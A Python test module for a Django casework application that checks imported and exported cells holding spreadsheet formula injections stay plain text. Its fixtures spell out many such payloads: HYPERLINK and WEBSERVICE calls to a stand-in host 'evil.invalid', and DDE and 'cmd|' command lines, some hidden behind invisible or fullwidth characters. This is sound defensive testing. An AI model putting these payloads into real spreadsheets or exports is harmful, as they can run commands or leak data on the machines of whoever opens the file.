"""T16: cells that a spreadsheet program would work out, in every disguise, come in as words and stay words.

Brought in from CSV and from a workbook they are shown as text wherever they are shown. A CSV the desk writes has them
neutralised, and the desk writes no workbook.
"""

from __future__ import annotations

import ast
import csv
import html
import io
import re
import unicodedata
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import safeconduct
from safeconduct.casework import queries as casework
from safeconduct.casework.actions import arrivals, bring_in
from safeconduct.casework.importing.formula import write_csv
from safeconduct.people import queries
from safeconduct.people.models import Subject
from tests import builders

AS_OF = date(2026, 11, 20)
HEADINGS = ("Our ref", "Name", "Address", "Case type", "Date sent", "Sent to", "Subject", "Notes")
DISGUISES = {
    "plain": "",
    "tab": "\t",
    "carriage return": "\r",
    "line feed": "\n",
    "both line ends": "\r\n",
    "byte order mark": "\ufeff",
    "zero width space": "\u200b",
    "zero width joiner": "\u200d",
    "word joiner": "\u2060",
    "right-to-left mark": "\u200f",
    "right-to-left override": "\u202e",
    "space": "  ",
    "no-break space": "\u00a0",
    "ideographic space": "\u3000",
    "all of them": " \t\u200b\ufeff\u00a0",
}
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
PAYLOADS = (
    'HYPERLINK("http://evil.invalid/{n}","<b>see {n}</b>")',
    "cmd|' /C calc {n}'!A0",
    'DDE("cmd";"/C calc {n}";"x")',
    'WEBSERVICE("http://evil.invalid/{n}?"&A1)',
    "SUM(1+{n})",
)
UNSEEN = {"Cc", "Cf", "Zs", "Zl", "Zp"}


def attacks() -> list[tuple[str, str]]:
    """Each cell, and the part of it that must be seen as it is."""
    pairs = [(hidden, sign) for hidden in DISGUISES.values() for sign in SIGNS]
    cores = [sign + PAYLOADS[n % len(PAYLOADS)].format(n=1000 + n) for n, (_, sign) in enumerate(pairs)]
    return [(hidden + core, core) for (hidden, _), core in zip(pairs, cores, strict=True)]


CELLS = attacks()


def rows() -> list[tuple[str, ...]]:
    """One row for every six cells, so that each column meets each kind of disguise."""
    out = []
    for number, start in enumerate(range(0, len(CELLS), 6)):
        name, address, kind, to, subject, note = [CELLS[(start + at) % len(CELLS)][0] for at in range(6)]
        out.append((f"F/{number:03}", name, address, kind, "2026-11-02", to, subject, note))
    return out


def as_csv() -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows([HEADINGS, *rows()])
    return out.getvalue().encode()


def as_workbook() -> bytes:
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.append(HEADINGS)
    for at, row in enumerate(rows(), start=2):
        for column, text in enumerate(row, start=1):
            cell = page.cell(row=at, column=column)
            cell.value = text.replace("\u202e", "") if column == 2 else text
            # Every other row as words that only look like a formula; the rest are real ones where they can be.
            if at % 2:
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def shown_on(page: str) -> str:
    """What a reader sees: tags out, entities read, runs of space as one."""
    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", page)).split())


def plain(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(("name", "data"), [("cells.csv", as_csv()), ("cells.xlsx", as_workbook())])
def test_cells_stay_words_wherever_they_are_shown(name: str, data: bytes) -> None:
    lowri = builders.member(builders.office())
    by, team = lowri.actor, lowri.actor.teams[0]
    arrival = arrivals.stage(by=by, team=team, name=name, data=data, as_of=AS_OF, rule="never")
    bring_in.start(by=by, arrival=arrival)
    assert bring_in.go_on(by=by, arrival=arrival, seconds=600).finished
    browser = lowri.client
    subjects = list(Subject.objects.values_list("kind", "handle"))
    assert len(subjects) == 2 * len(rows())
    addresses = [reverse("person" if kind == "person" else "case", args=[handle]) for kind, handle in subjects]
    addresses += [reverse("today"), reverse("cases"), reverse("people"), reverse("settings")]
    if name.endswith(".csv"):  # once brought in, words are words: the forms show those of either alike
        addresses += [reverse("case-edit", args=[handle]) for kind, handle in subjects if kind == "case"]
        addresses += [reverse("person-edit", args=[one, "identity"]) for kind, one in subjects if kind == "person"]
    pages = {}
    for address in addresses:
        answer = browser.get(address)
        assert (answer.status_code, answer["Content-Type"]) == (200, "text/html; charset=utf-8"), address
        pages[address] = answer.content.decode()
    everything = "\n".join(pages.values())
    assert "<b>see" not in everything
    assert 'href="http://evil' not in everything
    seen = "\n".join(shown_on(page) for page in pages.values())
    missing = [core for _, core in CELLS if plain(core) not in seen]
    assert missing == []


@pytest.mark.django_db(transaction=True)
def test_a_typed_formula_stays_words_too() -> None:
    lowri = builders.member(builders.office())
    person = builders.person(lowri, '=HYPERLINK("http://evil.invalid","Ann")', safe_note="@SUM(1+1)*cmd|' /C calc'!A0")
    made = builders.case(lowri, person, exact_kind='+WEBSERVICE("http://evil.invalid")', sent_on=date(2026, 11, 2))
    for address in (reverse("person", args=[person.handle]), reverse("case", args=[made.handle])):
        page = lowri.client.get(address).content.decode()
        assert '=HYPERLINK("http://evil.invalid","Ann")' in shown_on(page)
        assert "@SUM(1+1)*cmd|' /C calc'!A0" in shown_on(page)
        assert 'href="http' not in page
    assert queries.open_person(by=lowri.actor, person=person).identity.content.names[0].text.startswith("=")
    assert casework.open_head(by=lowri.actor, case=made).content.exact_kind.startswith("+")


@pytest.mark.django_db(transaction=True)
def test_headings_and_faulty_cells_stay_words_on_the_pages_and_in_the_csv_of_an_import() -> None:
    """The list of rows to be put right carries the sheet's own headings, and they may be formulas as well."""
    lowri = builders.member(builders.office())
    browser = lowri.client
    heads = ['\u200b=HYPERLINK("http://evil.invalid","ref")', "＋SUM(name)", '\t@DDE("cmd";"/C calc";"sent")']
    out = io.StringIO(newline="")
    faulty = [[f"F/{at}", f"Ann Quill{chr(97 + at)}feather", cell] for at, (cell, _) in enumerate(CELLS[:20])]
    csv.writer(out).writerows([heads, *faulty])
    file = SimpleUploadedFile("=cmd|'!A0.csv", out.getvalue().encode())
    team = lowri.actor.teams[0].handle.hex
    columns = browser.post(reverse("imports"), {"team": team, "file": file})["Location"]
    chosen = {"column-0": "our_ref", "column-1": "name", "column-2": "sent_on"}
    preview = browser.post(columns, chosen)["Location"]
    for page in (columns, preview):
        text = browser.get(page).content.decode()
        assert "=HYPERLINK(" in shown_on(text)
        assert 'href="http' not in text
        assert "<b>see" not in text
    answer = browser.get(preview.replace("/preview", "/faults.csv"))
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    written = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert len(written) == 1 + len(faulty)
    for row in written:
        for cell in row:
            assert unicodedata.normalize("NFKC", first_seen(cell) or " ") not in set("=+-@"), cell
    assert any("@DDE" in cell for row in written for cell in row)


# What goes out


def first_seen(text: str) -> str:
    return next((c for c in text if unicodedata.category(c) not in UNSEEN), "")


def test_every_cell_of_a_csv_we_write_is_neutralised() -> None:
    data = write_csv([[cell for cell, _ in CELLS]])
    [written] = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    for cell, text in zip(CELLS, written, strict=True):
        assert first_seen(text) == "'", cell
        assert text.replace("'", "") == cell[0].replace("'", "")
    # The same read by a program whose separator is another: no piece begins a formula.
    for separator in (";", "\t", "|"):
        for piece in data.decode("utf-8-sig").split(separator):
            assert unicodedata.normalize("NFKC", first_seen(piece) or " ") not in set("=+-@"), piece


def calls(tree: ast.Module) -> set[str]:
    return {
        node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
    }


def named(tree: ast.Module) -> set[str]:
    """What a module takes from others, with the module's name before it."""
    found = {one.name for node in ast.walk(tree) if isinstance(node, ast.Import) for one in node.names}
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom):
            found |= {f"{(node.module or '').split('.')[0]}.{one.name}" for one in node.names}
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            found.add(f"{node.value.id}.{node.attr}")
    return found


def test_no_other_csv_and_no_workbook_is_ever_written() -> None:
    """All CSV goes through `write_csv`; a workbook is read in one module and made in none."""
    source = Path(safeconduct.__file__).parent
    texts = {path.relative_to(source).as_posix(): path.read_text(encoding="utf-8") for path in source.rglob("*.py")}
    said = re.compile("writer|DictWriter|openpyxl|xlsxwriter")
    trees = {name: ast.parse(text) for name, text in texts.items() if said.search(text)}
    invents_the_demos_sheet = {"cli/demo_office.py"}
    writing = {name for name, tree in trees.items() if {"writer", "DictWriter"} & calls(tree)}
    assert writing - invents_the_demos_sheet == {"casework/importing/formula.py"}
    assert not {name for name, tree in trees.items() if {"openpyxl.Workbook", "xlsxwriter"} & named(tree)}
